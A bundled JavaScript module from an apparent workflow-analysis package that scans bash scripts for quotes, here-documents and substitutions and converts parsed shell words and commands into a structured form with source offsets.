function literalParts(source, value, start, end, quoted) {
    const expressions = expressionParts(source, start, end, quoted);
    if (expressions.length === 0)
        return [{ kind: "literal", start, end, quoted, value }];
    const parts = [];
    let at = start;
    let valueAt = 0;
    for (const expression of expressions) {
        const placeholder = source.masked[expression.start];
        const found = value.indexOf(placeholder, valueAt);
        const literalEnd = found < 0 ? value.length : found;
        if (literalEnd > valueAt) {
            parts.push({
                kind: "literal",
                start: at,
                end: expression.start,
                quoted,
                value: value.slice(valueAt, literalEnd),
            });
        }
        parts.push(expression);
        at = expression.end;
        valueAt = literalEnd + (expression.end - expression.start);
    }
    if (valueAt < value.length)
        parts.push({ kind: "literal", start: at, end, quoted, value: value.slice(valueAt) });
    return parts;
}
/** Adds what `literalParts` gives; a spread would overflow the stack where there are very many. */
function appendLiteral(parts, source, value, start, end, quoted) {
    for (const part of literalParts(source, value, start, end, quoted))
        parts.push(part);
}
/** The value of a word made of these parts, `undefined` when it isn't static. */
function literalOf(parts) {
    let value = "";
    for (const part of parts) {
        if (part.kind === "literal")
            value += part.value;
        else if (part.kind === "glob" && part.pattern !== undefined)
            value += part.pattern;
        else
            return undefined;
    }
    return value;
}
/** What a script's regions say, in the words that parts use. */
function quotedAs(region) {
    switch (region?.quoting) {
        case "single":
        case "ansi-c":
        case "heredoc-quoted":
        case "here-string-single":
            return "single";
        case "double":
            return "double";
        case "heredoc":
        case "here-string-double":
            return "heredoc";
        default:
            return "none";
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/placement.js
const unmoved = (start, end) => ({ start, end });
/** The text was cut out of the outer one at `offset`. */
function cutAt(outer, offset) {
    return (start, end) => outer(start + offset, end + offset);
}
/** The text was made from what stands at `span` by more than cutting: everything is there. */
function madeFrom({ start, end }) {
    return () => ({ start, end });
}
/**
 * The text stood inside backticks or double quotes, and one level of backslashes was removed.
 *
 * @param raw the text between them
 * @param decoded what the parser made of it
 * @param offset of `raw` in the outer text
 */
function unescaped(outer, raw, decoded, offset) {
    const offsets = new Uint32Array(decoded.length + 1);
    let at = 0;
    for (let index = 0; index < decoded.length; index++) {
        if (raw[at] === "\\" && (raw[at] !== decoded[index] || raw[at + 1] === "\\"))
            at++;
        offsets[index] = Math.min(at, raw.length);
        at++;
    }
    offsets[decoded.length] = raw.length;
    const place = (index) => offset + offsets[Math.min(index, decoded.length)];
    // An end is the place after the last character: what follows may have a backslash before it.
    return (start, end) => outer(place(start), end > start ? place(end - 1) + 1 : place(start));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/convert-word.js


/** A word of unbash in our shape, converted when asked for. */
class BashWord {
    context;
    convert;
    start;
    end;
    #parts;
    #literal = null;
    constructor(context, range, convert) {
        this.context = context;
        this.convert = convert;
        const span = context.place(range.pos, range.end);
        this.start = span.start;
        this.end = span.end;
    }
    get text() {
        return this.context.source.text.slice(this.start, this.end);
    }
    get parts() {
        this.#parts ??= this.convert(this.context);
        return this.#parts;
    }
    get literal() {
        if (this.#literal === null)
            this.#literal = literalOf(this.parts);
        return this.#literal;
    }
    toJSON() {
        return { start: this.start, end: this.end, text: this.text, literal: this.literal, parts: this.parts };
    }
}
function wordOf(node, context) {
    return made(node, context, () => wordParts(node, "none", context));
}
/** `NAME=value` as an argument, of `export` or `env`. */
function assignmentWord(node, context) {
    return made(node, context, () => {
        const values = node.value.type === "ArrayValue" ? node.value.elements : [node.value];
        const nameEnd = values[0]?.pos ?? node.end;
        const name = literal(context, context.text.slice(node.pos, nameEnd), node.pos, nameEnd, "none");
        return [...name, ...values.flatMap((value) => wordParts(value, "none", context))];
    });
}
function heredocWord(node, quoted, context) {
    return made(node, context, () => {
        const around = quoted ? "single" : "heredoc";
        if (!node.parts)
            return literal(context, node.text, node.pos, node.end, around);
        return node.parts.flatMap((part) => convertPart(part, around, context));
    });
}
/** A range of the text that is one static word. */
function plainWord(start, end, context, value = context.text.slice(start, end)) {
    return new BashWord(context, { pos: start, end }, () => literal(context, value, start, end, "none"));
}
function arithmeticWord(expression, range, context) {
    return made({ ...range, text: context.text.slice(range.pos, range.end) }, context, () => [
        {
            kind: "arithmetic",
            ...context.place(range.pos, range.end),
            quoted: "none",
            parts: arithmeticParts(expression, range, context),
        },
    ]);
}
/** Substitutions hold commands, which belong to the script's: those words are converted at once. */
const MAY_HOLD_COMMANDS = /[`(]|\$\{[\s|]/;
function made(node, context, convert) {
    const word = new BashWord(context, node, convert);
    if (MAY_HOLD_COMMANDS.test(node.text))
        void word.parts;
    return word;
}
function wordParts(node, quoted, context) {
    const { parts } = node;
    if (parts)
        return parts.flatMap((part) => convertPart(part, quoted, context));
    return node.end > node.pos ? literal(context, node.value, node.pos, node.end, quoted) : [];
}
function literal(context, value, start, end, quoted) {
    const span = context.place(start, end);
    return literalParts(context.source, value, span.start, span.end, quoted);
}
function convertPart(part, quoted, context) {
    const { source } = context;
    const span = context.place(part.pos, part.end);
    switch (part.type) {
        case "Literal":
            return literal(context, part.value, part.pos, part.end, quoted);
        case "SingleQuoted":
        case "AnsiCQuoted":
            return literal(context, part.value, part.pos, part.end, "single");
        case "DoubleQuoted":
        case "LocaleString":
            if (part.parts.length === 0)
                return [{ kind: "literal", ...span, quoted: "double", value: "" }];
            return part.parts.flatMap((child) => convertPart(child, quoted === "heredoc" ? quoted : "double", context));
        case "SimpleExpansion":
            return [{ kind: "variable", ...span, quoted, name: part.text.slice(1), operator: undefined, operand: [] }];
        case "ParameterExpansion":
            return [
                {
                    kind: "variable",
                    ...span,
                    quoted,
                    name: part.parameter,
                    operator: operatorOf(part),
                    operand: operandOf(part, quoted, context),
                },
            ];
        case "CommandExpansion":
        case "ProcessSubstitution":
            return [
                { kind: "substitution", ...span, quoted, commands: part.script ? substituted(part, part.script, context) : [] },
            ];
        case "ArithmeticExpansion":
            return [{ kind: "arithmetic", ...span, quoted, parts: arithmeticParts(part.expression, part, context) }];
        case "Glob":
        case "ExtendedGlob":
        case "BraceExpansion": {
            const inner = part.parts?.flatMap((child) => convertPart(child, quoted, context));
            const parts = inner ?? expressionParts(source, span.start, span.end, quoted);
            const isStatic = part.type !== "BraceExpansion" && parts.every((child) => child.kind === "literal" || child.kind === "glob");
            return [{ kind: "glob", ...span, quoted, pattern: isStatic ? part.text : undefined, parts }];
        }
    }
}
function substituted(part, script, context) {
    if (script.source === undefined)
        return context.substitution(script, context.text, context.place);
    // Backslashes were removed inside backticks: offsets of this script are offsets of another text.
    const raw = context.text.slice(part.pos + 1, part.end - 1);
    const place = unescaped(context.place, raw, script.source, part.pos + 1);
    return context.substitution(script, script.source, place);
}
function operatorOf(part) {
    if (part.prefix === "#")
        return "length";
    if (part.prefix === "!")
        return "indirect";
    return part.operation?.operator;
}
function operandOf(part, quoted, context) {
    const { index, operation } = part;
    const words = [index];
    if (operation) {
        if ("operand" in operation)
            words.push(operation.operand);
        else if ("pattern" in operation)
            words.push(operation.pattern, operation.replacement);
        else if ("offset" in operation)
            words.push(operation.offset, operation.length);
        else if (operation.type === "Unknown") {
            const span = context.place(part.pos, part.end);
            return expressionParts(context.source, span.start, span.end, quoted);
        }
    }
    return words.flatMap((word) => (word ? wordParts(word, quoted, context) : []));
}
const NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;
function arithmeticParts(expression, range, context) {
    const parts = [];
    if (expression)
        collectArithmetic(expression, parts, context);
    const whole = context.place(range.pos, range.end);
    // Expressions stand inside words, numbers or between operators: take them as they come.
    const expressions = expressionParts(context.source, whole.start, whole.end, "none");
    if (expressions.length === 0)
        return parts;
    const found = parts.filter((part) => part.kind !== "expression");
    // The parser stops at a word that it takes for no number; what follows is looked through for names.
    const seen = found.reduce((end, part) => Math.max(end, part.end), whole.start);
    return [...found, ...namesIn(context, seen, whole.end), ...expressions].sort((a, b) => a.start - b.start);
}
function namesIn({ source }, start, end) {
    const parts = [];
    for (const match of source.masked.slice(start, end).matchAll(/\$?\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g)) {
        const at = start + match.index;
        const span = { start: at, end: at + match[0].length };
        parts.push({
            kind: "variable",
            ...span,
            quoted: "none",
            name: match[1],
            operator: undefined,
            operand: [],
        });
    }
    return parts;
}
function collectArithmetic(node, into, context) {
    switch (node.type) {
        case "ArithmeticBinary":
            collectArithmetic(node.left, into, context);
            collectArithmetic(node.right, into, context);
            return;
        case "ArithmeticUnary":
            collectArithmetic(node.operand, into, context);
            return;
        case "ArithmeticTernary":
            collectArithmetic(node.test, into, context);
            collectArithmetic(node.consequent, into, context);
            collectArithmetic(node.alternate, into, context);
            return;
        case "ArithmeticGroup":
            collectArithmetic(node.expression, into, context);
            return;
        case "ArithmeticCommandExpansion": {
            const commands = node.script ? context.substitution(node.script, context.text, context.place) : [];
            into.push({ kind: "substitution", ...context.place(node.pos, node.end), quoted: "none", commands });
            return;
        }
        case "ArithmeticWord":
            if (node.parts)
                for (const part of node.parts.flatMap((child) => convertPart(child, "none", context)))
                    into.push(part);
            else if (NAME.test(node.value)) {
                const span = context.place(node.pos, node.end);
                into.push({ kind: "variable", ...span, quoted: "none", name: node.value, operator: undefined, operand: [] });
            }
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/convert.js

/** Adds the commands of a syntax tree to `collected`. */
function convertScript(tree, source, text, placement, place, collected) {
    const converter = new Converter(source, text, placement, collected);
    converter.list(tree.commands, place, []);
}
class Converter {
    source;
    text;
    place;
    collected;
    /** Where the words being converted stand; substitutions in them inherit it. */
    wordPlace;
    constructor(source, text, place, collected) {
        this.source = source;
        this.text = text;
        this.place = place;
        this.collected = collected;
    }
    list(statements, place, into) {
        for (const { command } of statements)
            this.node(command, place, into);
    }
    substitution(script, text, placement) {
        const outer = this.wordPlace;
        const inner = { ...outer, inSubstitution: true, group: undefined };
        const commands = [];
        const converter = new Converter(this.source, text, placement, this.collected);
        converter.list(script.commands, inner, commands);
        return commands;
    }
    node(node, place, into) {
        switch (node.type) {
            case "Command":
                return this.command(node, place, into);
            case "Pipeline":
                this.pipeline(node, place, into);
                return undefined;
            case "AndOr":
                this.andOr(node, place, into);
                return undefined;
            case "Function":
                return this.function(node, place, into);
            case "Coproc":
                if (node.body.type === "CompoundList")
                    this.list(node.body.commands, place, into);
                else
                    return this.node(node.body, place, into);
                return undefined;
            case "TestCommand":
                return this.testCommand(node, place, [], into);
            case "ArithmeticCommand":
                return this.arithmeticCommand(node, place, [], into);
            case "Redirected":
                return this.redirected(node, place, into);
            default:
                return this.compound(node, place, [], into);
        }
    }
    andOr(node, place, into) {
        node.commands.forEach((command, index) => {
            const operator = node.operators[index - 1];
            const at = operator ? under(place, operator === "&&" ? "and" : "or") : place;
            this.node(command, at, into);
        });
    }
    pipeline(node, place, into) {
        const stages = [];
        for (const command of node.commands) {
            const stage = this.node(command, place, into);
            if (stage)
                stages.push(stage);
        }
        if (stages.length < 2)
            return;
        stages.forEach((stage, index) => {
            stage.pipeline = { index, stages };
        });
    }
    command(node, place, into) {
        const assignments = [];
        const redirects = [];
        const args = [];
        const command = this.add(node, place, into, { name: undefined, args, assignments, redirects });
        this.wordPlace = place;
        for (const child of node.prefix) {
            if (child.type === "Assignment")
                assignments.push(this.assignment(child));
            else
                redirects.push(this.redirect(child));
        }
        if (node.name)
            command.name = wordOf(node.name, this);
        for (const child of node.suffix) {
            if (child.type === "Word")
                args.push(wordOf(child, this));
            else if (child.type === "Assignment")
                args.push(assignmentWord(child, this));
            else
                redirects.push(this.redirect(child));
        }
        return command;
    }
    add(node, place, into, content) {
        const command = {
            kind: "command",
            ...this.place(node.pos, node.end),
            ...content,
            place,
            pipeline: undefined,
        };
        this.collected.commands.push(command);
        into.push(command);
        return command;
    }
    assignment(node) {
        const { value } = node;
        // A subscript may run commands.
        if (node.index)
            wordOf(node.index, this);
        const values = value.type === "ArrayValue" ? value.elements : value.end > value.pos ? [value] : [];
        return {
            ...this.place(node.pos, node.end),
            name: node.name,
            append: node.append === true,
            values: values.map((word) => wordOf(word, this)),
        };
    }
    redirect(node) {
        const base = {
            ...this.place(node.pos, node.end),
            operator: node.operator,
            descriptor: descriptorOf(node.descriptor),
        };
        if (node.type !== "HereDoc") {
            return { ...base, target: node.target && wordOf(node.target, this), heredoc: undefined };
        }
        const { delimiter, body } = node;
        const quoted = delimiter?.quoted ?? false;
        return {
            ...base,
            target: delimiter && plainWord(delimiter.pos, delimiter.end, this),
            heredoc: {
                body: this.place(body.pos, body.end),
                delimiter: delimiter?.value ?? "",
                quoted,
                content: heredocWord(body, quoted, this),
            },
        };
    }
    redirects(nodes, place) {
        this.wordPlace = place;
        return nodes.map((node) => this.redirect(node));
    }
    redirected(node, place, into) {
        const redirects = this.redirects(node.redirects, place);
        const { command } = node;
        if (command.type === "TestCommand")
            return this.testCommand(command, place, redirects, into);
        if (command.type === "ArithmeticCommand")
            return this.arithmeticCommand(command, place, redirects, into);
        return this.compound(command, place, redirects, into, node);
    }
    function(node, place, into) {
        const name = node.name.value;
        return this.group("function", node, place, { name }, into, (inside, commands) => {
            const body = { ...inside, inFunction: name };
            if (node.body.type === "CompoundList")
                this.list(node.body.commands, body, commands);
            else
                this.node(node.body, body, commands);
        });
    }
    compound(node, place, redirects, into, whole = node) {
        this.wordPlace = place;
        switch (node.type) {
            case "BraceGroup":
            case "Subshell":
                return this.group(node.type === "Subshell" ? "subshell" : "brace", whole, place, { redirects }, into, (inside, to) => this.list(node.body.commands, inside, to));
            case "If":
                return this.group("if", whole, place, { redirects }, into, (inside, to) => this.branches(node, inside, to));
            case "While":
                return this.group("while", whole, place, { redirects }, into, (inside, to) => {
                    this.list(node.clause.commands, under(inside, "loop-test"), to);
                    this.list(node.body.commands, under(inside, "loop-body"), to);
                });
            case "For":
            case "Select": {
                const words = (node.wordlist ?? []).map((word) => wordOf(word, this));
                const kind = node.type === "For" ? "for" : "select";
                return this.group(kind, whole, place, { redirects, words, name: node.name.value }, into, (inside, to) => this.list(node.body.commands, under(inside, "loop-body"), to));
            }
            case "ArithmeticFor": {
                const words = [node.initialize, node.test, node.update].flatMap((part) => part ? [arithmeticWord(part, part, this)] : []);
                return this.group("for", whole, place, { redirects, words }, into, (inside, to) => this.list(node.body.commands, under(inside, "loop-body"), to));
            }
            case "Case": {
                const words = [wordOf(node.word, this)];
                return this.group("case", whole, place, { redirects, words }, into, (inside, to) => {
                    const body = under(inside, "case-body");
                    for (const item of node.items) {
                        this.wordPlace = inside;
                        for (const pattern of item.pattern)
                            wordOf(pattern, this);
                        this.list(item.body.commands, body, to);
                    }
                });
            }
        }
    }
    branches(node, inside, into) {
        this.list(node.clause.commands, under(inside, "if-test"), into);
        this.list(node.then.commands, under(inside, "if-body"), into);
        const otherwise = under(inside, "else-body");
        for (const branch of node.elif) {
            this.list(branch.clause.commands, under(otherwise, "if-test"), into);
            this.list(branch.then.commands, under(inside, "if-body"), into);
        }
        if (node.else)
            this.list(node.else.commands, otherwise, into);
    }
    group(kind, node, place, content, into, fill) {
        const commands = [];
        const group = {
            kind,
            ...this.place(node.pos, node.end),
            name: content.name,
            words: content.words ?? [],
            redirects: content.redirects ?? [],
            commands,
            place,
            pipeline: undefined,
        };
        this.collected.groups.push(group);
        fill({ ...place, group }, commands);
        for (const command of commands)
            into.push(command);
        return group;
    }
    testCommand(node, place, redirects, into) {
        const args = [];
        const name = plainWord(node.pos, node.pos + 2, this);
        const command = this.add(node, place, into, { name, args, assignments: [], redirects });
        this.wordPlace = place;
        this.operands(node.expression, args);
        return command;
    }
    operands(node, into) {
        switch (node.type) {
            case "TestUnary":
                into.push(...this.operator(node.operator, node.pos, node.operand.pos), wordOf(node.operand, this));
                return;
            case "TestBinary":
                into.push(wordOf(node.left, this), ...this.operator(node.operator, node.left.end, node.right.pos), wordOf(node.right, this));
                return;
            case "TestLogical":
                for (const operand of node.operands)
                    this.operands(operand, into);
                return;
            case "TestNot":
                this.operands(node.operand, into);
                return;
            case "TestGroup":
                this.operands(node.expression, into);
        }
    }
    /** What stands between two places of the text; nothing before a word that is a test by itself. */
    operator(operator, start, end) {
        const between = this.text.slice(start, end);
        const length = between.trim().length;
        if (length === 0)
            return [];
        const from = start + between.length - between.trimStart().length;
        return [plainWord(from, from + length, this, operator)];
    }
    arithmeticCommand(node, place, redirects, into) {
        const args = [];
        const name = plainWord(node.pos, node.pos + 2, this);
        const command = this.add(node, place, into, { name, args, assignments: [], redirects });
        this.wordPlace = place;
        args.push(arithmeticWord(node.expression, { pos: node.pos + 2, end: Math.max(node.pos + 2, node.end - 2) }, this));
        return command;
    }
}
function under(place, condition) {
    return { ...place, conditions: [...place.conditions, condition] };
}
function descriptorOf(descriptor) {
    if (!descriptor)
        return undefined;
    return descriptor.type === "FileDescriptor" ? String(descriptor.value) : `{${descriptor.name}}`;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/regions.js
/** Collects the regions of a script while a lexer goes through it from start to end. */
class RegionRecorder {
    regions = [];
    #start = 0;
    #quoting = "none";
    /** From `at` on, the text is inside `quoting`. */
    enter(at, quoting) {
        if (quoting === this.#quoting)
            return;
        this.finish(at);
        this.#start = at;
        this.#quoting = quoting;
    }
    /** The text ends at `at`. */
    finish(at) {
        if (this.#quoting !== "none" && at > this.#start) {
            this.regions.push({ start: this.#start, end: at, quoting: this.#quoting });
        }
        this.#start = at;
        return this.regions;
    }
}
/** Index of the first region that ends after `offset`. */
function regionIndex(regions, offset) {
    let low = 0;
    let high = regions.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        if (regions[middle].end <= offset)
            low = middle + 1;
        else
            high = middle;
    }
    return low;
}
/** What `offset` is inside of; quotes themselves count as inside. */
function quotingIn(regions, offset) {
    const region = regions[regionIndex(regions, offset)];
    return region !== undefined && region.start <= offset ? region.quoting : "none";
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/scan.js

/** Finds quotes, comments, here-documents and substitutions. Takes a script whose `${{ }}` are masked. */
function scanBash(text) {
    return new Scanner(text).run();
}
/** Deeper nesting is read as plain text: no script that a person wrote has it. */
const MAX_DEPTH = 200;
/** Characters that mean nothing where they stand; in code, behind another one. */
const PLAIN_IN_CODE = /[^\s;|&#'"()<>\\`$]*/y;
const PLAIN_IN_DOUBLE = /[^"\\`$]*/y;
const COMMENT = /[^\n]*/y;
const COMMENT_IN_BACKTICKS = /[^\n`]*/y;
const PLAIN_IN_HEREDOC = /[^\\`$]*/y;
/** After `$` these are a variable's name, whatever they mean elsewhere. */
const SPECIAL_PARAMETERS = "#$!?*@-";
const COMMAND_FOLLOWS = new Set(["then", "do", "else", "elif", "if", "while", "until", "!", "{", "time"]);
class Scanner {
    text;
    recorder = new RegionRecorder();
    substitutions = [];
    heredocs = [];
    stack = [];
    at = 0;
    /** Where the innermost open here-document's body ends. */
    limit;
    openBackticks = 0;
    constructor(text) {
        this.text = text;
        this.limit = text.length;
    }
    run() {
        this.push("code", "none", "");
        for (;;) {
            if (this.at >= this.limit) {
                if (!this.endHeredoc())
                    break;
                continue;
            }
            const frame = this.top;
            if (frame.kind === "code")
                this.code(frame);
            else if (frame.kind === "double")
                this.double();
            else if (frame.kind === "parameter")
                this.parameter(frame);
            else if (frame.kind === "arithmetic")
                this.arithmetic(frame);
            else
                this.expandable();
        }
        for (const { substitution } of this.stack)
            this.closeSubstitution(substitution, this.text.length, 0);
        return {
            regions: this.recorder.finish(this.text.length),
            substitutions: this.substitutions,
            heredocs: this.heredocs,
        };
    }
    get top() {
        return this.stack[this.stack.length - 1];
    }
    push(kind, quoting, closer) {
        const frame = {
            kind,
            quoting,
            closer,
            depth: 0,
            cases: 0,
            atCommand: true,
            pending: undefined,
            substitution: undefined,
            bodyEnd: 0,
            after: 0,
        };
        this.stack.push(frame);
        this.recorder.enter(this.at, quoting);
        return frame;
    }
    /** Leaves the innermost frame; `at` is the offset after its end. */
    pop(fence) {
        const frame = this.stack.pop();
        this.closeSubstitution(frame.substitution, this.at, fence);
        if (frame.closer === "`")
            this.openBackticks--;
        const parent = this.top;
        if (frame.pending && parent.kind === "code")
            parent.pending = [...(parent.pending ?? []), ...frame.pending];
        this.recorder.enter(this.at, parent.quoting);
    }
    closeSubstitution(substitution, end, fence) {
        if (!substitution)
            return;
        substitution.end = end;
        substitution.body.end = Math.max(substitution.body.start, end - fence);
    }
    code(frame) {
        const { text } = this;
        const start = this.at;
        const char = text[start];
        switch (char) {
            case "\n":
                this.at++;
                frame.atCommand = true;
                if (frame.pending)
                    this.startHeredoc(frame);
                return;
            case " ":
            case "\t":
            case "\r":
                this.at++;
                return;
            case ";":
            case "|":
            case "&":
                this.at++;
                frame.atCommand = true;
                return;
            case "#":
                if (this.atWordStart())
                    this.comment();
                else
                    this.at++;
                return;
            case "'":
                frame.atCommand = false;
                this.plainQuote("single", start + 1);
                return;
            case '"':
                frame.atCommand = false;
                this.openDouble();
                return;
            case "(":
                if (text[start + 1] === "(" && frame.atCommand)
                    this.openArithmetic(2);
                else {
                    frame.depth++;
                    frame.atCommand = true;
                    this.at++;
                }
                return;
            case ")":
                this.closeParenthesis(frame);
                return;
            case "<":
            case ">":
                this.angle(frame, char);
                return;
        }
        if (this.escapeOrExpansion(char)) {
            frame.atCommand = false;
            return;
        }
        if (frame.atCommand && this.atWordStart())
            this.commandWord(frame);
        else
            this.skip(PLAIN_IN_CODE);
    }
    /** Goes past the character at hand and those behind it that mean nothing: one search is many times faster than steps. */
    skip(plain) {
        plain.lastIndex = this.at + 1;
        plain.test(this.text);
        this.at = Math.min(plain.lastIndex, this.limit);
    }
    closeParenthesis(frame) {
        this.at++;
        frame.atCommand = true;
        if (frame.depth > 0)
            frame.depth--;
        else if (frame.closer === ")" && frame.cases === 0)
            this.pop(1);
    }
    angle(frame, char) {
        const { text, at } = this;
        const next = text[at + 1];
        if (next === "(")
            this.openSubstitution(2);
        else if (char === "<" && next === "<") {
            if (text[at + 2] === "<")
                this.at += 3;
            else
                this.heredocOperator(frame);
        }
        else
            this.at++;
    }
    /** Reads reserved words, as far as they say where a command begins. */
    commandWord(frame) {
        const start = this.at;
        let end = start;
        while (end < this.limit && isNameCode(this.text.charCodeAt(end)))
            end++;
        const word = this.text.slice(start, Math.min(end, start + 8));
        if (end === start) {
            const char = this.text[start];
            if (!COMMAND_FOLLOWS.has(char))
                frame.atCommand = false;
            this.at++;
            return;
        }
        this.at = end;
        if (word === "case")
            frame.cases++;
        else if (word === "esac" && frame.cases > 0)
            frame.cases--;
        frame.atCommand = COMMAND_FOLLOWS.has(word);
    }
    atWordStart() {
        if (this.at === 0)
            return true;
        const before = this.text[this.at - 1];
        return " \t\r\n;&|()`".includes(before);
    }
    comment() {
        this.recorder.enter(this.at, "comment");
        // Inside backticks the closing one ends the comment too.
        this.skip(this.openBackticks > 0 ? COMMENT_IN_BACKTICKS : COMMENT);
        this.recorder.enter(this.at, this.top.quoting);
    }
    /** A quote without expansions, from `at` to the quote that closes it; the content begins at `content`. */
    plainQuote(quoting, content) {
        this.recorder.enter(this.at, quoting);
        const end = this.text.indexOf("'", content);
        this.at = end < 0 || end >= this.limit ? this.limit : end + 1;
        this.recorder.enter(this.at, this.top.quoting);
    }
    ansiQuote() {
        this.recorder.enter(this.at, "ansi-c");
        this.at += 2;
        while (this.at < this.limit && this.text[this.at] !== "'")
            this.at += this.text[this.at] === "\\" ? 2 : 1;
        this.at = Math.min(this.at + 1, this.limit);
        this.recorder.enter(this.at, this.top.quoting);
    }
    openDouble() {
        this.push("double", "double", "");
        this.at++;
    }
    openArithmetic(fence) {
        if (this.stack.length >= MAX_DEPTH)
            this.at += fence;
        else {
            this.push("arithmetic", "arithmetic", "");
            this.at += fence;
        }
    }
    openSubstitution(fence, closer = ")") {
        if (this.stack.length >= MAX_DEPTH) {
            this.at += fence;
            return;
        }
        const start = this.at;
        const body = { start: start + fence, end: start + fence };
        const substitution = { start, end: start + fence, body };
        this.substitutions.push(substitution);
        this.push("code", "none", closer).substitution = substitution;
        if (closer === "`")
            this.openBackticks++;
        this.at += fence;
    }
    /** `\`, `$` and backticks, which mean the same in code, double quotes and here-documents. */
    escapeOrExpansion(char) {
        if (char === "\\") {
            this.at = Math.min(this.at + 2, this.limit);
            return true;
        }
        if (char === "`") {
            if (this.openBackticks > 0)
                this.closeBacktick();
            else
                this.openSubstitution(1, "`");
            return true;
        }
        if (char !== "$")
            return false;
        const next = this.text[this.at + 1];
        if (next === "(") {
            if (this.text[this.at + 2] === "(")
                this.openArithmetic(3);
            else
                this.openSubstitution(2);
        }
        else if (next === "{")
            this.openParameter();
        else if (next === "'" && this.top.kind === "code")
            this.ansiQuote();
        else if (next !== undefined && SPECIAL_PARAMETERS.includes(next))
            this.at = Math.min(this.at + 2, this.limit);
        else
            this.at++;
        return true;
    }
    closeBacktick() {
        while (this.top.closer !== "`")
            this.pop(0);
        this.at++;
        this.pop(1);
        this.limit = this.outerLimit();
    }
    openParameter() {
        if (this.stack.length >= MAX_DEPTH) {
            this.at += 2;
            return;
        }
        this.push("parameter", this.top.quoting, "");
        this.at += 2;
        // `${#X}`, `${!X}`: what follows isn't a quote or a comment.
        if ("#!".includes(this.text[this.at] ?? "x"))
            this.at++;
    }
    double() {
        const char = this.text[this.at];
        if (char === '"') {
            this.at++;
            this.pop(0);
        }
        else if (!this.escapeOrExpansion(char))
            this.skip(PLAIN_IN_DOUBLE);
    }
    parameter(frame) {
        const char = this.text[this.at];
        if (char === "}") {
            this.at++;
            this.pop(0);
        }
        else if (char === "'" && frame.quoting === "none")
            this.plainQuote("single", this.at + 1);
        else if (char === '"')
            this.openDouble();
        else if (!this.escapeOrExpansion(char))
            this.at++;
    }
    arithmetic(frame) {
        const char = this.text[this.at];
        if (char === "(")
            frame.depth++;
        if (char === ")") {
            if (frame.depth > 0)
                frame.depth--;
            else {
                this.at += this.text[this.at + 1] === ")" ? 2 : 1;
                this.at = Math.min(this.at, this.limit);
                this.pop(0);
                return;
            }
        }
        if (char === '"')
            this.openDouble();
        else if (!this.escapeOrExpansion(char))
            this.at++;
    }
    expandable() {
        const char = this.text[this.at];
        if (!this.escapeOrExpansion(char))
            this.skip(PLAIN_IN_HEREDOC);
    }
    heredocOperator(frame) {
        const operator = this.at;
        const { text } = this;
        let at = operator + 2;
        const stripsTabs = text[at] === "-";
        if (stripsTabs)
            at++;
        while (text[at] === " " || text[at] === "\t")
            at++;
        let delimiter = "";
        let quoted = false;
        while (at < this.limit && !" \t\r\n;&|()<>".includes(text[at])) {
            const char = text[at];
            if (char === "'" || char === '"') {
                quoted = true;
                const close = text.indexOf(char, at + 1);
                const end = close < 0 || close > this.limit ? this.limit : close;
                delimiter += text.slice(at + 1, end);
                this.recorder.enter(at, char === "'" ? "single" : "double");
                at = end + 1;
                this.recorder.enter(Math.min(at, this.limit), this.top.quoting);
            }
            else if (char === "\\") {
                quoted = true;
                delimiter += text[at + 1] ?? "";
                at += 2;
            }
            else {
                delimiter += char;
                at++;
            }
        }
        this.at = Math.min(at, this.limit);
        frame.pending ??= [];
        frame.pending.push({ operator, delimiter, quoted, stripsTabs });
    }
    /** `at` is at the beginning of the body of the first pending here-document. */
    startHeredoc(frame) {
        const heredoc = frame.pending?.shift();
        if (!heredoc) {
            frame.pending = undefined;
            return;
        }
        const { bodyEnd, after } = this.heredocEnd(heredoc);
        this.heredocs.push({ operator: heredoc.operator, body: { start: this.at, end: bodyEnd }, after });
        const inner = this.push("heredoc", heredoc.quoted ? "heredoc-quoted" : "heredoc", "");
        inner.bodyEnd = bodyEnd;
        inner.after = after;
        this.limit = bodyEnd;
        if (heredoc.quoted)
            this.at = bodyEnd;
    }
    heredocEnd({ delimiter, stripsTabs }) {
        const { text, limit } = this;
        for (let line = this.at; line < limit;) {
            const newline = text.indexOf("\n", line);
            const end = newline < 0 || newline > limit ? limit : newline;
            let from = line;
            while (stripsTabs && text[from] === "\t")
                from++;
            const to = text[end - 1] === "\r" ? end - 1 : end;
            if (to - from === delimiter.length && text.startsWith(delimiter, from)) {
                return { bodyEnd: line, after: Math.min(end + 1, limit) };
            }
            line = end + 1;
        }
        return { bodyEnd: limit, after: limit };
    }
    /** Goes on after the innermost here-document; false when the script ends. */
    endHeredoc() {
        const index = this.stack.findLastIndex((frame) => frame.kind === "heredoc");
        const frame = this.stack[index];
        if (!frame)
            return false;
        this.at = frame.bodyEnd;
        while (this.stack.length > index)
            this.pop(0);
        this.at = frame.after;
        this.limit = this.outerLimit();
        const code = this.top;
        code.atCommand = true;
        if (code.pending)
            this.startHeredoc(code);
        return true;
    }
    outerLimit() {
        return this.stack.findLast((frame) => frame.kind === "heredoc")?.bodyEnd ?? this.text.length;
    }
}
/** ASCII letters, digits and `_`. */
function isNameCode(code) {
    return (code >= 97 && code <= 122) || (code >= 65 && code <= 90) || (code >= 48 && code <= 57) || code === 95;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/split-word.js


/** A word cut out by the splitter; its parts are found when asked for. */
class SplitWord {
    from;
    range;
    substitutions;
    start;
    end;
    #parts;
    constructor(from, range, substitutions) {
        this.from = from;
        this.range = range;
        this.substitutions = substitutions;
        const span = from.place(range.start, range.end);
        this.start = span.start;
        this.end = span.end;
    }
    get text() {
        return this.from.source.text.slice(this.start, this.end);
    }
    get parts() {
        this.#parts ??= splitParts(this.from, this.range, this.substitutions);
        return this.#parts;
    }
    get literal() {
        return literalOf(this.parts);
    }
    /** The word without its first `length` characters, `undefined` when nothing is left. */
    after(length) {
        const start = this.range.start + length;
        if (start >= this.range.end)
            return undefined;
        return new SplitWord(this.from, { start, end: this.range.end }, this.substitutions.filter(({ span }) => span.start >= start));
    }
}
